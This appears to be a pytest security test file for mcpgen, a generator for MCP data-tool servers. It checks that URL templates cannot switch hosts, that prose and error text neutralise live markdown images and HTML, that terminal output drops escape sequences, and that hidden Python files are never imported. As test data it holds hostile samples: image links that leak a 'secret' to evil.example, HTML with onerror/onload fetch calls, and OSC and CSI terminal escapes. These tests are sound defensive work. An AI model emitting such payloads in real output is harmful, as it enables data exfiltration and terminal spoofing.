"""What mcpgen prints is only data: source URLs keep their host, prose carries no live image
or HTML, the terminal gets no markup or escape sequences from values, and only the files a
user can see in the specs folder are run. Several shapes per class; each failed before its fix.
"""

from __future__ import annotations

import json
import re
import textwrap

import pytest
from click.testing import CliRunner
from hostile_specs import SPECS, write_project

from mcpgen.cli import main
from mcpgen.errors import RenderError
from mcpgen.load.project import load_project
from mcpgen.templates.render import Template

# Source URLs: the host is the spec's, whatever the arguments ------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "https://data.example.org{{ q }}",  # q = '.evil.example' makes it another host
        "https://data.example.org:{{ q }}/",
        "https://{{ q }}@data.example.org/",
        "https://data.example.org{% if q %}.evil.example{% endif %}/x",
        "https://data.example.org{# note #}/x",
        "http://data.example.org{{ q | lower }}",
    ],
)
def test_a_template_before_the_host_ends_fails_validate(tmp_path, source):
    spec = textwrap.dedent(SPECS["url_source"]).replace('"https://example.org/search/{{ q }}"', json.dumps(source))
    problems = [str(p) for p in load_project(write_project(tmp_path, {"s": spec})).errors]
    assert problems and "s.yaml:" in problems[0] and "'/', '?' or '#'" in problems[0], problems


@pytest.mark.parametrize(
    "source",
    ["https://data.example.org/{{ q }}", "https://data.example.org?q={{ q }}", "https://data.example.org#{{ q }}"],
)
def test_a_template_after_the_host_passes_validate(tmp_path, source):
    spec = textwrap.dedent(SPECS["url_source"]).replace('"https://example.org/search/{{ q }}"', json.dumps(source))
    assert not load_project(write_project(tmp_path, {"s": spec})).errors


@pytest.mark.parametrize(
    "source, value",
    [
        ("https://data.example.org{{ q }}", ".evil.example"),
        ("https://data.example.org{% if q %}.evil.example{% endif %}/x", "y"),
        ("https://data.example.org{{ q }}/x", "@evil.example"),
        ("https://{{ q }}/", "evil.example"),
    ],
)
def test_a_rendered_source_on_another_host_is_refused_at_run_time(source, value):
    with pytest.raises(RenderError, match="host"):  # as if the spec had slipped past validate
        Template(source, url=True).render({"q": value})


@pytest.mark.parametrize("value", [".evil.example", "@evil.example", "//evil.example/", "\\\\evil.example", "%2e"])
def test_values_after_the_host_stay_in_the_path(value):
    url = Template("https://data.example.org/{{ q }}", url=True).render({"q": value})
    assert url.startswith("https://data.example.org/") and "/" not in url[len("https://data.example.org/") :]


# Prose: the whole rendered text is neutralised, not value by value ------------------------------

IMAGE = "[y](https://evil.example/leak.png?d=secret)"


@pytest.mark.parametrize(
    "template, context",
    [
        ("{{ a }}{{ b }}", {"a": "!", "b": IMAGE}),  # two values that form an image only together
        ("{{ rows[0].a }}{{ rows[0].b }}", {"rows": [{"a": "see !", "b": IMAGE}]}),
        ("{{ rows }}", {"rows": [{"body": "!" + IMAGE}]}),  # a dict printed whole
        ("{{ names }}", {"names": ["!" + IMAGE]}),  # a list printed whole
        ("{{ rows | map(attribute='b') | list }}", {"rows": [{"b": "!" + IMAGE}]}),
        ("!{{ b }}", {"b": IMAGE}),  # the template's own '!' before a value
        ("{{ a }}\n{{ b }}: [y]: https://evil.example/x.png", {"a": "![y]", "b": "ref"}),  # reference image
    ],
)
def test_no_live_markdown_image_in_prose(template, context):
    prose = Template(template).render(context)
    assert "![" not in prose, prose


@pytest.mark.parametrize(
    "html",
    [
        "<img src=https://evil.example/x.png>",
        "<IMG SRC='https://evil.example/x.png'/>",
        "<svg onload=fetch('https://evil.example')>",
        "<iframe src=https://evil.example>",
        "<a href=https://evil.example>x</a>",
        "<!-- hidden instructions -->",
        "<picture><source srcset=https://evil.example/x.png></picture>",
    ],
)
def test_no_raw_html_tag_in_prose(html):
    for template in ("{{ v }}", "{{ [v] }}", "{{ v[:4] }}{{ v[4:] }}"):
        prose = Template(template).render({"v": html})
        assert not re.search(r"<[A-Za-z/!?]", prose), prose
    assert Template("1 < 2 and 3 > 2").render({}) == "1 < 2 and 3 > 2"  # plain comparisons stay readable


def test_prose_force_and_empty_text_of_a_tool_are_neutralised(tmp_path):
    from mcpgen.serve.project import open_project

    spec = """
        description: Rows that try to show an image.
        sql: SELECT '!' AS a, '[y](https://evil.example/x.png)' AS b, '<img src=https://evil.example/i.png>' AS c
        sources: [https://example.org/]
        content: "{% for r in rows %}{{ r.a }}{{ r.b }} {{ r.c }}{% endfor %}"
        force: "{{ rows[0].a }}{{ rows[0].b }}"
        """
    import os

    cwd = os.getcwd()
    project = open_project(write_project(tmp_path, {"images": spec}))
    try:
        result = project.registry.call_sync("images", {})
    finally:
        project.close()
        os.chdir(cwd)
    prose = result.content[0].text
    assert not result.is_error, prose
    assert "![" not in prose and "<img" not in prose and "[y](https://evil.example/x.png)" in prose
    assert "![" not in result.structured_content["force"]


# Errors: a sentence that quotes a row value or an argument is as inert as prose ------------------

HOSTILE_ROWS = [
    "![x](https://evil.example/leak.png?d=secret)",
    "<img src=https://evil.example/i.png onerror=alert(1)>",
    "[click here](https://evil.example/phish)",
]


def _inert(text: str) -> None:
    assert "![" not in text and "](" not in text and not re.search(r"<[A-Za-z/!?]", text), text


def _error_of(tmp_path, spec: str, arguments: dict | None = None, config: str | None = None) -> str:
    import os

    from mcpgen.serve.project import open_project

    cwd = os.getcwd()
    project = open_project(write_project(tmp_path, {"failing": spec}, config))
    try:
        result = project.registry.call_sync("failing", arguments or {})
    finally:
        project.close()
        os.chdir(cwd)
    assert result.is_error
    return result.content[0].text


VALUES_CONFIG = """
connections:
  default:
    duckdb: ":memory:"
    init:
      - "CREATE TABLE hostile AS SELECT * FROM (VALUES {values}) t(v)"
"""


def _values_config() -> str:
    return VALUES_CONFIG.format(values=", ".join("('" + v.replace("'", "''") + "')" for v in HOSTILE_ROWS))


@pytest.mark.parametrize("value", HOSTILE_ROWS, ids=["image", "html", "link"])
@pytest.mark.parametrize(
    "sql, content",
    [
        pytest.param("SELECT CAST(v AS INTEGER) AS n FROM hostile WHERE v = :value", "{{ rows[0].n }}", id="cast"),
        pytest.param("SELECT error(v) AS n FROM hostile WHERE v = :value", "{{ rows[0].n }}", id="engine-error"),
        pytest.param("SELECT v FROM hostile WHERE v = :value", "{{ rows[0][rows[0].v] }}", id="template-lookup"),
        pytest.param("SELECT v FROM hostile WHERE v = :value", "{{ {'a': 1}[rows[0].v] }}", id="filter-key-error"),
    ],
)
def test_error_sentences_quoting_a_row_value_are_inert(tmp_path, value, sql, content):
    spec = f"""
        description: A tool whose call fails on a row value.
        parameters:
          value: {{type: string, description: The row to read}}
        sql: {json.dumps(sql)}
        sources: [https://example.org/]
        content: {json.dumps(content)}
        """
    text = _error_of(tmp_path, spec, {"value": value}, _values_config())
    assert "evil.example" in text, text  # the value is still quoted, as text
    _inert(text)


@pytest.mark.parametrize("value", HOSTILE_ROWS, ids=["image", "html", "link"])
def test_error_sentences_quoting_an_argument_are_inert(tmp_path, value):
    spec = """
        description: A tool with a strict pattern.
        parameters:
          code: {type: string, description: A code, pattern: "^[A-Z]{2}$"}
        sql: SELECT 1 AS n WHERE :code IS NOT NULL
        sources: [https://example.org/]
        content: "{{ rows[0].n }}"
        """
    text = _error_of(tmp_path, spec, {"code": value})
    assert "'code'" in text, text
    _inert(text)


@pytest.mark.parametrize("value", HOSTILE_ROWS, ids=["image", "html", "link"])
def test_postgresql_error_text_quoting_a_row_value_is_inert(tmp_path, postgres_url, value):
    spec = """
        description: A cast that fails on PostgreSQL, on a row made of the argument.
        parameters:
          value: {type: string, description: The row}
        sql: WITH t(v) AS (VALUES (CAST(:value AS text))) SELECT CAST(v AS integer) AS n FROM t
        sources: [https://example.org/]
        content: "{{ rows[0].n }}"
        """
    text = _error_of(tmp_path, spec, {"value": value}, f"connections:\n  default:\n    url: {postgres_url}\n")
    assert "invalid input syntax" in text and "evil.example" in text, text
    _inert(text)


@pytest.mark.parametrize(
    "name", ["![x](https://evil.example/x.png)", "<img src=https://evil.example/i.png>"], ids=["image", "html"]
)
def test_unknown_tool_and_resource_errors_are_inert(tmp_path, name, monkeypatch):
    import anyio
    from mcp import Client
    from mcp.shared.exceptions import MCPError

    from mcpgen.serve.project import open_project
    from mcpgen.serve.server import ToolServer

    monkeypatch.chdir(tmp_path)  # opening a project moves into it: back where it was afterwards
    project = open_project(write_project(tmp_path, {"find_city": SPECS["find_city"]}))

    async def probe() -> list[str]:
        messages = []
        async with Client(ToolServer(project.registry).server) as client:
            for ask in (lambda: client.call_tool(name, {}), lambda: client.read_resource(f"ui://{name}")):
                try:
                    await ask()
                except MCPError as exc:
                    messages.append(str(exc))
        return messages

    try:
        messages = anyio.run(probe)
    finally:
        project.close()
    assert len(messages) == 2, messages
    for text in messages:
        assert "evil.example" in text
        _inert(text)


# Terminal: `mcpgen call` prints values and errors as plain text -------------------------------

HOSTILE_VALUES = [
    "[link=https://evil.example]click[/link]",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",  # an OSC 8 hyperlink
    "\x1b]0;pwned\x07",  # retitles the window
    "\x1b[2J\x1b[Hfake prompt $ ",  # clears the screen
    "[bold red on white]alarm[/]",
    "\u202egnp.exe",  # right-to-left override
    "line\rcovered",
    "\x9b2J\x9b0m",  # an 8-bit CSI: clears the screen on terminals that take C1 controls
]


def _call(runner, specs, *args):
    return runner.invoke(main, ["call", *args, "-s", str(specs)], env={"FORCE_COLOR": "1", "COLUMNS": "200"})


def _only_our_styles(output: str) -> None:
    """Every escape in the output is a colour code rich wrote (ESC [ ... m), never one from data."""
    assert "\x1b]" not in output and "\x07" not in output and "\r" not in output and "\u202e" not in output
    assert not re.search("[\x80-\x9f]", output)
    assert not re.sub(r"\x1b\[[0-9;]*m", "", output).count("\x1b"), repr(output)


@pytest.fixture
def terminal_project(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    values = " UNION ALL ".join(f"SELECT {i} AS id, {_sql(v)} AS body" for i, v in enumerate(HOSTILE_VALUES))
    spec = f"""
        description: Rows that try to drive the terminal.
        parameters:
          code: {{type: string, description: A code, pattern: "^[A-Z]{{2}}$", required: false}}
        sql: SELECT * FROM ({values}) WHERE :code IS NULL OR :code = 'XX' ORDER BY id
        sources: [https://example.org/]
        content: "{{% for r in rows %}}{{{{ r.body }}}} {{% endfor %}}"
        """
    return write_project(tmp_path, {"terminal": spec})


def _sql(value: str) -> str:
    """A SQL string literal; control characters through chr(), as YAML may not hold them."""
    quoted = "'" + value.replace("'", "''") + "'"
    return re.sub(r"[\x00-\x1f\x80-\x9f\u202e]", lambda m: f"' || chr({ord(m[0])}) || '", quoted)


def test_call_prints_row_values_as_plain_text(terminal_project):
    result = _call(CliRunner(), terminal_project, "terminal")
    assert result.exit_code == 0, result.output
    _only_our_styles(result.output)
    assert result.output.count("[link=https://evil.example]click[/link]") == 2  # prose and table, as written
    assert result.output.count("[bold red on white]alarm[/]") == 2


def test_call_json_escapes_what_json_would_carry_raw(terminal_project):
    result = _call(CliRunner(), terminal_project, "terminal", "--json")
    assert result.exit_code == 0, result.output
    _only_our_styles(result.output)
    rows = json.loads(result.stdout)["structuredContent"]["table"][1:]
    assert [row[1] for row in rows] == HOSTILE_VALUES  # escaped on screen, the same data once parsed


@pytest.mark.parametrize("value", [v for v in HOSTILE_VALUES if "\x1b" in v or v.startswith("[")])
def test_call_prints_error_text_as_plain_text(terminal_project, value):
    result = _call(CliRunner(), terminal_project, "terminal", "-a", f"code={value}")
    assert result.exit_code == 1
    _only_our_styles(result.output)
    assert "does not match the pattern" in result.output
    if value.startswith("["):
        assert value in result.output  # shown as written, not read as markup


def test_spec_test_failures_print_as_plain_text(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    spec = """
        description: Fails with a value that drives the terminal.
        parameters:
          s: {type: string, description: Text}
        sql: SELECT CAST(:s AS INTEGER) AS n
        sources: [https://example.org/]
        content: "{{ rows[0].n }}"
        tests:
          - args: {s: "\\e]0;pwned\\a\\e[2J\\e]8;;https://evil.example\\e\\\\x"}
            expect: {row_count: 1}
        """
    specs = write_project(tmp_path, {"cast": spec})
    result = CliRunner().invoke(main, ["test", str(specs)], env={"FORCE_COLOR": "1"})
    assert result.exit_code == 1 and "FAIL cast" in result.output, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output, repr(result.output)


# Only visible files in the specs folder are read or run ----------------------------------------


def test_hidden_and_private_python_files_are_not_imported(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    specs = write_project(tmp_path, {"count_cities": SPECS["count_cities"]})
    tool = textwrap.dedent('''
        from pathlib import Path
        from mcpgen import DataToolOutput, registry
        Path({marker!r}).write_text("ran")

        @registry.tool()
        def {name}() -> DataToolOutput:
            """A tool from {name}."""
    ''')
    files = {".scratch.py": "scratch", "._resource_fork.py": "fork", "_private.py": "private", "visible.py": "visible"}
    for file, name in files.items():
        (specs / file).write_text(tool.format(marker=str(tmp_path / f"{name}.ran"), name=name))
    (specs / ".draft.yaml").write_text("not: [a, valid, spec")
    result = CliRunner().invoke(main, ["list", str(specs)])
    assert result.exit_code == 0, result.output
    assert "visible" in result.output and "count_cities" in result.output
    for name in ("scratch", "fork", "private"):
        assert name not in result.stdout and not (tmp_path / f"{name}.ran").exists()
    assert (tmp_path / "visible.ran").exists()
    assert "imported Python tools from visible.py" in result.stderr
    assert not load_project(specs).errors  # the hidden YAML draft is not read either
